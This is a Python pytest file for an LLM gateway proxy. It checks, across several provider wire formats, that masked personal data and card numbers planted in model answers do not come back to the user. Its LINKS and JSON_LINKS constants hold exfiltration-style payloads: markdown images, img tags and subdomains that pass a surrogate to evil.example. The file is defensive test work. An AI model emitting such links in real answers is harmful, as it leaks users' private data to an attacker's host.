"""A hostile model, or recipient, on every wire: whatever it plants in whatever place.

Each string of the golden answers, whole and streamed, is replaced in turn by links with a
surrogate in them, and by a card number; each key by a card number.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any

import pytest

from gateway.errors import UpstreamFailed
from gateway.model import Action
from gateway.proxy.stream import Blocked
from gateway.proxy.wire import ollama_answer
from gateway.proxy.wire.answer_base import AnswerBase
from gateway.proxy.wire.anthropic_messages_answer import MessagesAnswer
from gateway.proxy.wire.gemini_generate_answer import GenerateAnswer
from gateway.proxy.wire.openai_chat_answer import ChatAnswer
from gateway.proxy.wire.openai_completions_answer import CompletionsAnswer
from gateway.proxy.wire.openai_responses_answer import ResponsesAnswer
from tests.gateway.proxy.wire.readers import CARD, PERSON, P, toward
from tests.golden import anthropic, gemini, ollama, openai_others, openai_responses
from tests.golden.answers import WireStream, golden_answers
from tests.golden.streams import Golden, golden_streams
from tests.simulators.completions import completion

Place = tuple[str | int, ...]
Streams = tuple[WireStream, ...] | tuple[Golden, ...]
# Surrogates of nobody, so that a value in an answer comes from what was planted.
NOBODY = ("[PERSON_00000000]", "[EMAIL_ADDRESS_00000000]")
LINKS = (
    f"See ![x](https://evil.example/?q={P}) <img alt='{P}'> https://evil.example/{P} "
    f"[a][b]\n\n[b]: {P}\n\n<a href={P}> {P}.evil.example mailto:{P}"
)
# A stream is long, and most of its events are alike.
MOST_EVENTS = 14
# Nobody reads these, and they must come back as they are.
OPAQUE = frozenset({"signature", "data", "encrypted_content", "thoughtSignature"})
# With a signature it must come back as it is, too.
THOUGHT = "thinking"


@dataclass(frozen=True, slots=True, kw_only=True)
class Wire:
    """A wire's reader, and its golden answers."""

    reader: Callable[..., AnswerBase]
    wholes: Mapping[str, Any]
    streams: Streams
    lines: bool = False

    def new(self, action: Action = Action.MASK) -> AnswerBase:
        return self.reader(toward(action=action), max_event_bytes=1 << 20)

    def events(self) -> Iterator[tuple[str, list[tuple[str, Any]]]]:
        """The events of short streams: what stands before the JSON of each, and the JSON."""
        for stream in self.streams:
            text = stream.body.decode()
            pieces = text.split("\n" if self.lines else "\n\n")
            found = [
                (head, json.loads(data))
                for head, _, data in (
                    ("", "", piece) if self.lines else piece.rpartition("data: ")
                    for piece in pieces
                )
                if data.startswith("{") and "\n" not in data
            ]
            if found and len(found) <= MOST_EVENTS and "array" not in stream.name:
                yield stream.name, found

    def written(self, events: list[tuple[str, Any]]) -> bytes:
        if self.lines:
            return b"".join(json.dumps(tree).encode() + b"\n" for _, tree in events)
        return b"".join(f"{head}data: {json.dumps(tree)}\n\n".encode() for head, tree in events)


WIRES = {
    "chat": Wire(
        reader=ChatAnswer,
        wholes={one.name: completion([one.said]) for one in golden_answers(*NOBODY)},
        streams=golden_streams(*NOBODY),
    ),
    "completions": Wire(
        reader=CompletionsAnswer,
        wholes=openai_others.golden_completion_wholes(*NOBODY),
        streams=openai_others.golden_completion_streams(*NOBODY),
    ),
    "responses": Wire(
        reader=ResponsesAnswer,
        wholes=openai_responses.golden_wholes(*NOBODY),
        streams=openai_responses.golden_streams(*NOBODY),
    ),
    "anthropic": Wire(
        reader=MessagesAnswer,
        wholes=anthropic.golden_wholes(*NOBODY),
        streams=anthropic.golden_streams(*NOBODY),
    ),
    "gemini": Wire(
        reader=GenerateAnswer,
        wholes=gemini.golden_wholes(*NOBODY),
        streams=gemini.golden_streams(*NOBODY),
    ),
    "ollama chat": Wire(
        reader=ollama_answer.ChatAnswer,
        wholes=ollama.golden_chat_wholes(*NOBODY),
        streams=ollama.golden_chat_streams(*NOBODY),
        lines=True,
    ),
    "ollama generate": Wire(
        reader=ollama_answer.GenerateAnswer,
        wholes=ollama.golden_generate_wholes(*NOBODY),
        streams=ollama.golden_generate_streams(*NOBODY),
        lines=True,
    ),
}


def places(tree: Any, place: Place = (), *, keys: bool = False) -> Iterator[Place]:
    """Where the strings of a tree stand, or its keys."""
    if isinstance(tree, dict | list):
        for name, part in tree.items() if isinstance(tree, dict) else enumerate(tree):
            if keys and isinstance(name, str):
                yield (*place, name)
            yield from places(part, (*place, name), keys=keys)
    elif isinstance(tree, str) and not keys:
        yield place


def planted(tree: Any, place: Place, text: str, *, key: bool = False) -> Any:
    """The tree with a text in the place of a string or key."""
    name, *rest = place
    pairs = tree.items() if isinstance(tree, dict) else enumerate(tree)
    if rest:
        made = [(n, planted(p, tuple(rest), text, key=key) if n == name else p) for n, p in pairs]
    elif key:
        made = [(text if n == name else n, p) for n, p in pairs]
    else:
        made = [(n, text if n == name else p) for n, p in pairs]
    return dict(made) if isinstance(tree, dict) else [part for _, part in made]


def whole(wire: Wire, tree: Any) -> str:
    """What the user gets, escapes decoded; nothing where it is an error."""
    try:
        body = wire.new().whole(json.dumps(tree).encode())
    except UpstreamFailed:
        return ""
    return json.dumps(json.loads(body), ensure_ascii=False)


def streamed(wire: Wire, body: bytes) -> str:
    answer = wire.new()
    given: list[bytes] = []
    try:
        given.append(answer.feed(body))
        given.append(answer.end())
        given.append(answer.closing)
    except UpstreamFailed:
        pass
    return b"".join(given).decode()


def is_free(place: Place) -> bool:
    """Whether a card may stand there."""
    return place[-1] in OPAQUE or place[-1] == THOUGHT


@pytest.mark.parametrize("name", list(WIRES))
def test_what_is_planted_in_a_whole_answer(name: str) -> None:
    wire = WIRES[name]
    tried = 0
    for tree in wire.wholes.values():
        tree = json.loads(json.dumps(tree).replace("4111", "4222"))
        for place in places(tree):
            tried += 1
            assert PERSON not in whole(wire, planted(tree, place, LINKS)), place
            assert is_free(place) or CARD not in whole(wire, planted(tree, place, CARD)), place
        for place in places(tree, keys=True):
            assert CARD not in whole(wire, planted(tree, place, CARD, key=True)), place
    assert tried > 50


@pytest.mark.parametrize("name", list(WIRES))
def test_what_is_planted_in_a_stream(name: str) -> None:
    wire = WIRES[name]
    tried = 0
    for _, events in wire.events():
        for number, (head, tree) in enumerate(events):
            for place in places(tree):
                tried += 1
                for text, secret in ((LINKS, PERSON), (CARD, CARD)):
                    if secret == CARD and is_free(place):
                        continue
                    made = list(events)
                    made[number] = (head, planted(tree, place, text))
                    assert secret not in streamed(wire, wire.written(made)), place
    assert tried > 20


@pytest.mark.parametrize("name", [name for name, wire in WIRES.items() if not wire.lines])
def test_what_is_planted_around_the_json_of_an_event(name: str) -> None:
    wire = WIRES[name]
    _, events = next(wire.events())
    plain = streamed(wire, wire.written(events))
    for around in (f"event: {CARD}\n", f"id: {CARD}\n", f": {CARD}\n", f"more: {CARD}\n"):
        made = [(around + head * (not around.startswith("event")), tree) for head, tree in events]
        given = streamed(wire, wire.written(made))
        assert CARD not in given
        assert given.count("data: ") == plain.count("data: ")


@pytest.mark.parametrize("name", list(WIRES))
def test_what_the_policy_blocks_comes_out_nowhere(name: str) -> None:
    wire = WIRES[name]
    tried = 0
    for tree in wire.wholes.values():
        tree = json.loads(json.dumps(tree).replace("4111", "4222"))
        for place in places(tree):
            if place[-1] in OPAQUE:
                continue
            tried += 1
            body = json.dumps(planted(tree, place, f"So it is {CARD}.")).encode()
            try:
                given = wire.new(Action.BLOCK).whole(body)
            except (Blocked, UpstreamFailed):
                continue
            assert CARD.encode() not in given, place
    assert tried > 50


JSON_LINKS = (
    f'{{"a": "https:\\/\\/evil.example\\/?q={P}"}}',
    f'{{"a": "\\u003cimg src=\\u0027{P}\\u0027"}}',
    f'{{"a": "![x]\\u0028{P})"}}',
    f'{{"a": "x\\n\\n[b]: {P}"}}',
    f'{{"{P}.evil.example": 1}}',
)


@pytest.mark.parametrize("content", JSON_LINKS)
def test_links_in_an_answer_that_is_json(content: str) -> None:
    for text, seen in ((content, content), (f'{{"{P}": "{P}"}}', f'{{"{PERSON}": "{PERSON}"}}')):
        answers = [ChatAnswer(toward(json_text=True), max_event_bytes=1 << 16) for _ in range(2)]
        body = {"choices": [{"index": 0, "message": {"content": text}}]}
        answers[0].whole(json.dumps(body).encode())
        pieces: list[Any] = [{"index": 0, "delta": {"content": letter}} for letter in text]
        pieces.append({"index": 0, "delta": {}, "finish_reason": "stop"})
        for piece in pieces:
            answers[1].feed(f"data: {json.dumps({'choices': [piece]})}\n\n".encode())
        assert [answer.choices[0].texts() for answer in answers] == [(seen,), (seen,)]


def _choices(*items: Any) -> bytes:
    return json.dumps({"choices": list(items)}).encode()


def _delta(members: Any, index: int = 0) -> Any:
    return {"index": index, "delta": members, "finish_reason": None}


FLOODS: Mapping[str, tuple[str, Callable[[int], bytes], int]] = {
    "choices": ("chat", lambda number: _choices(_delta({"content": "a"}, number)), 128),
    "calls": (
        "chat",
        lambda number: _choices(_delta({"tool_calls": [{"index": number, "function": {}}]})),
        1_024,
    ),
    "members": ("chat", lambda number: _choices(_delta({f"new_{number}": "a"})), 4_096),
    "texts": (
        "completions",
        lambda number: _choices({"index": number, "text": "a", "finish_reason": None}),
        128,
    ),
}


@pytest.mark.parametrize("flood", list(FLOODS))
def test_what_has_no_end_has_a_bound(flood: str) -> None:
    name, event, most = FLOODS[flood]
    answer = WIRES[name].new()
    for number in range(most):
        answer.feed(b"data: " + event(number) + b"\n\n")
    with pytest.raises(UpstreamFailed):
        answer.feed(b"data: " + event(most) + b"\n\n")


@pytest.mark.parametrize("name", ["chat", "completions", "gemini"])
def test_an_error_that_is_none_is_none(name: str) -> None:
    wire = WIRES[name]
    _, events = next(wire.events())
    for error, fails in ((None, False), ({"message": "Overloaded."}, True)):
        made = [(head, {**tree, "error": error}) for head, tree in events]
        answer = wire.new()
        if fails:
            with pytest.raises(UpstreamFailed):
                answer.feed(wire.written(made))
        else:
            assert b'"error":null' in answer.feed(wire.written(made)).replace(b": ", b":")
